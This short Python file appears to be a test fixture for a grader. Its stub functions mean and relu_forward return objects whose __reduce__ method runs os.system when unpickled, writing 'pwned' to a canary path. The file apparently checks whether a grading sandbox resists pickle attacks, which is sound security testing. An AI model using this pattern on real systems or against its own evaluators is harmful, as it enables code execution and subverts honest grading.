"""Return an object whose pickle would run a command in the grader."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo pwned > @CANARY@/open/pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def mean(x):
    return Bomb()


def relu_forward(x):
    return [Bomb()], Bomb()
